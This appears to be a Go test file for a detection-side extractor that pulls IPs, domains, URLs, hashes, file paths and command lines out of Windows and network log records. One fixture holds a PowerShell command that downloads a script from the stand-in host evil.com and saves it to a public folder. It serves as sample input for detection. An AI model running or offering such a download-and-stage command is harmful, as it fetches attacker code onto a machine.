package observable_test

import (
	"bytes"
	"fmt"
	"maps"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"pgregory.net/rapid"

	"tocsin/intel"
	"tocsin/intel/observable"
)

// record makes a record of fields written as name, value, name, value.
func record(names *intel.Names, pairs ...string) *intel.Record {
	rec := &intel.Record{}
	for i := 0; i+1 < len(pairs); i += 2 {
		rec.Add(names.Intern(pairs[i]), intel.Text, []byte(pairs[i+1]))
	}
	return rec
}

// extracted lists what an extractor finds in such a record.
func extracted(pairs ...string) []string {
	names := intel.NewNames(nil)
	x := observable.NewExtractor(names)
	var list []string
	x.Each(record(names, pairs...), func(kind intel.ObservableKind, value []byte) {
		list = append(list, kind.String()+" "+string(value))
	})
	return list
}

var extractions = map[string]struct {
	fields []string
	want   []string
}{
	"a process": {
		[]string{
			"EventID", "1", "Image", `C:\Windows\System32\cmd.exe`, "CommandLine", "cmd.exe  /c DIR", "ParentImage", `C:\Windows\explorer.exe`, "OriginalFileName", "Cmd.Exe",
			"Hashes", "SHA1=99AE9C73E9BEE6F9C76D6F4093A9882DF06832CF,MD5=F4F684066175B77E0C3A000549D2922C,IMPHASH=3062ED732D4B25D1C64F084DAC97D37A,SHA512=0",
		},
		[]string{
			`filepath c:\windows\system32\cmd.exe`, "filename cmd.exe", "command-line cmd.exe /c dir", `filepath c:\windows\explorer.exe`, "filename explorer.exe",
			"sha1 99ae9c73e9bee6f9c76d6f4093a9882df06832cf", "md5 f4f684066175b77e0c3a000549d2922c", "imphash 3062ed732d4b25d1c64f084dac97d37a",
		},
	},
	"a look-up": {
		[]string{"QueryName", "WWW.Example.com", "QueryResults", "type:  5 cdn.example.net;::ffff:192.0.2.7;2001:db8::1;"},
		[]string{"domain www.example.com", "domain cdn.example.net", "ip 192.0.2.7", "ip 2001:db8::1"},
	},
	"addresses of nothing": {
		[]string{"SourceIp", "127.0.0.1", "DestinationIp", "0:0:0:0:0:0:0:1", "IpAddress", "-", "ClientAddress", "::ffff:127.0.0.1", "addr", "?", "c-ip", "0.0.0.0", "query", "7.2.0.192.in-addr.arpa"},
		nil,
	},
	"a request that Zeek saw": {
		[]string{"host", "Example.com:8080", "uri", "/a?b=c", "user_agent", "curl/7", "referrer", "https://192.0.2.9/", "md5", "00000000000000000000000000000000"},
		[]string{"domain example.com", "url http://example.com:8080/a?b=c", "user-agent curl/7", "url https://192.0.2.9/", "ip 192.0.2.9"},
	},
	"a request in a proxy's log": {
		[]string{"cs-host", "example.com", "cs-uri-stem", "/a", "cs-uri-query", "b=c", "cs-referer", "-"},
		[]string{"domain example.com", "url //example.com/a?b=c"},
	},
	"a request that names its host": {
		[]string{"cs-uri", "http://example.com/a", "cs-host", "-"},
		[]string{"url http://example.com/a", "domain example.com"},
	},
	"a request without host": {[]string{"cs-uri-stem", "/a", "cs-host", "-"}, nil},
	"an address with its port": {
		[]string{"callerIpAddress", "192.0.2.7:4711", "ClientIP", "[2001:db8::1]:443", "sourceIPAddress", "ec2.amazonaws.com"},
		[]string{"ip 192.0.2.7", "ip 2001:db8::1", "domain ec2.amazonaws.com"},
	},
	"mail": {
		[]string{"mailfrom", "<Jane@Example.com>", "rcptto", "joe@example.com"},
		[]string{"email jane@example.com", "domain example.com", "email joe@example.com"},
	},
	"a service": {
		[]string{"ServiceName", "PSEXESVC", "ImagePath", `"C:\Program Files\x y.exe" -k`, "ServiceFileName", `C:\Program Files\z.exe -k`},
		[]string{
			"service psexesvc", `command-line "c:\program files\x y.exe" -k`, `filepath c:\program files\x y.exe`, "filename x y.exe",
			`command-line c:\program files\z.exe -k`, `filepath c:\program files\z.exe`, "filename z.exe",
		},
	},
	"a Kerberos service": {[]string{"ServiceName", "krbtgt"}, nil},
	"names of files": {
		[]string{"name", "/etc/Passwd", "nametype", "NORMAL", "exe", "/usr/bin/x (deleted)", "filename", `a\b\C.exe`, "path", "192.0.2.8"},
		[]string{"filepath /etc/Passwd", "filename passwd", "filepath /usr/bin/x", "filename x", "filename c.exe", "ip 192.0.2.8"},
	},
	"a name of something else": {[]string{"name", "bad_HTTP_request"}, nil},
	"what Defender found": {
		[]string{"Path", `containerfile:_C:\a.zip; file:_C:\a.zip->x.exe`, "Process Name", `C:\Windows\b.exe`},
		[]string{`filepath c:\a.zip`, "filename a.zip", `filepath c:\windows\b.exe`, "filename b.exe"},
	},
	"an object": {
		[]string{"ObjectName", `\REGISTRY\MACHINE\SAM\x`, "ObjectName", `\Device\HarddiskVolume2\x.txt`},
		[]string{`registry-key hklm\sam\x`, `filepath \x.txt`, "filename x.txt"},
	},
	"a stream of a file":  {[]string{"TargetFilename", `C:\a.exe:Zone.Identifier`}, []string{`filepath c:\a.exe:zone.identifier`, "filename a.exe"}},
	"a program of Linux":  {[]string{"exe", "/usr/bin/Python3", "cmdline", "python3 -c 1"}, []string{"filepath /usr/bin/Python3", "filename python3", "command-line python3 -c 1"}},
	"fields of no kind":   {[]string{"EventID", "192.0.2.7", "Message", "example.com"}, nil},
	"a certificate":       {[]string{"tls.fingerprint", strings.Repeat("AB:", 19) + "AB"}, []string{"certificate " + strings.Repeat("ab", 20)}},
	"a name in two forms": {[]string{"Image", `C:\A.exe`, "ParentImage", `c:\a.EXE`}, []string{`filepath c:\a.exe`, "filename a.exe"}},
}

func TestExtractorFindsWhatFieldsHold(t *testing.T) {
	t.Parallel()
	for name, c := range extractions {
		if diff := cmp.Diff(c.want, extracted(c.fields...)); diff != "" {
			t.Errorf("%s (-want +got):\n%s", name, diff)
		}
	}
}

// Whatever kinds are asked for, they are reported as they are among all.
func TestExtractorReportsOnlyWhatIsWanted(t *testing.T) {
	t.Parallel()
	names := intel.NewNames(nil)
	all, some := observable.NewExtractor(names), observable.NewExtractor(names)
	rapid.Check(t, func(t *rapid.T) {
		wanted := rapid.SliceOfDistinct(rapid.SampledFrom(intel.ObservableKinds()), func(k intel.ObservableKind) intel.ObservableKind { return k }).Draw(t, "wanted")
		some.Only(func(kind intel.ObservableKind) bool { return slices.Contains(wanted, kind) })
		name := rapid.SampledFrom(slices.Sorted(maps.Keys(extractions))).Draw(t, "record")
		rec := record(names, extractions[name].fields...)
		for _, each := range []func(*observable.Extractor, *intel.Record, observable.Visit){(*observable.Extractor).Each, (*observable.Extractor).EachText} {
			var want, got []string
			each(all, rec, func(kind intel.ObservableKind, value []byte) {
				if slices.Contains(wanted, kind) {
					want = append(want, kind.String()+" "+string(value))
				}
			})
			each(some, rec, func(kind intel.ObservableKind, value []byte) { got = append(got, kind.String()+" "+string(value)) })
			if diff := cmp.Diff(want, got); diff != "" {
				t.Fatalf("-want +got:\n%s", diff)
			}
		}
	})
}

func TestExtractorLooksIntoText(t *testing.T) {
	t.Parallel()
	names := intel.NewNames(nil)
	x := observable.NewExtractor(names)
	rec := record(names, "CommandLine", `powershell iwr http://evil.com/a.ps1 -o C:\Users\Public\a.ps1`, "Message", "sent to jane@evil.com from 127.0.0.1", "Image", `C:\x.exe`)
	for range 2 { // the second finds the extractor used
		var got []string
		x.EachText(rec, func(kind intel.ObservableKind, value []byte) { got = append(got, kind.String()+" "+string(value)) })
		want := []string{"url http://evil.com/a.ps1", "domain evil.com", `filepath c:\users\public\a.ps1`, "filename a.ps1", "email jane@evil.com"}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("-want +got:\n%s", diff)
		}
	}
}

func TestExtractorReportsEachOnce(t *testing.T) {
	t.Parallel()
	rapid.Check(t, func(t *rapid.T) {
		var pairs, want []string
		for range rapid.IntRange(0, 200).Draw(t, "answers") {
			n := rapid.IntRange(1, 100).Draw(t, "address")
			pairs = append(pairs, "answers", fmt.Sprintf("192.0.2.%d", n))
			if text := fmt.Sprintf("ip 192.0.2.%d", n); !slices.Contains(want, text) {
				want = append(want, text)
			}
		}
		if diff := cmp.Diff(want, extracted(pairs...)); diff != "" {
			t.Fatalf("-want +got:\n%s", diff)
		}
	})
}

func TestExtractorIsBounded(t *testing.T) {
	t.Parallel()
	var pairs []string
	for i := range 10_000 {
		pairs = append(pairs, "answers", fmt.Sprintf("10.1.%d.%d", i>>8, i&255))
	}
	if n := len(extracted(pairs...)); n != 4096 {
		t.Errorf("%d observables", n)
	}
}

func TestExtractorDoesNotAllocate(t *testing.T) {
	names := intel.NewNames(nil)
	x := observable.NewExtractor(names)
	var records []*intel.Record
	for _, c := range extractions {
		records = append(records, record(names, c.fields...))
	}
	n := 0
	visit := func(_ intel.ObservableKind, value []byte) { n += len(value) }
	each := func() {
		for _, rec := range records {
			x.Each(rec, visit)
		}
	}
	if allocations := testing.AllocsPerRun(10, each); allocations != 0 {
		t.Errorf("%v allocations", allocations)
	}
}

// Whatever a field holds, what is reported is in normal form.
func FuzzExtractor(f *testing.F) {
	names := intel.NewNames(nil)
	x := observable.NewExtractor(names)
	fields := []string{"Image", "ImagePath", "Path", "ObjectName", "QueryResults", "Hashes", "sourceIPAddress", "callerIpAddress", "uri", "mailfrom", "url"}
	for _, c := range extractions {
		for i := 1; i < len(c.fields); i += 2 {
			f.Add([]byte(c.fields[i]))
		}
	}
	f.Fuzz(func(t *testing.T, value []byte) {
		rec := record(names, "host", "example.com")
		for _, name := range fields {
			rec.Add(names.Intern(name), intel.Text, value)
		}
		x.Each(rec, func(kind intel.ObservableKind, value []byte) {
			if form, ok := observable.Append(nil, kind, value); !ok || !bytes.Equal(form, value) {
				t.Errorf("%s %q is not in normal form: %q, %v", kind, value, form, ok)
			}
		})
	})
}
